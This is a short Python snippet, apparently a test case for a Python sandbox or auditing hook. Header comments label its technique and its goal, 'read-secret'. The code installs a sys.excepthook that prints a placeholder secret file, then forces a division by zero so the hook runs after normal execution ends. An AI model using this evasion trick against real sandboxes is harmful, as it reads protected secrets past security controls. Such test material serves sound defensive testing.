# technique: sys.excepthook is called when all frames are gone
# goal: read-secret
# source: time bombs
import functools
import sys
sys.excepthook = lambda *error: print(open('@SECRET@').read())
1 / 0
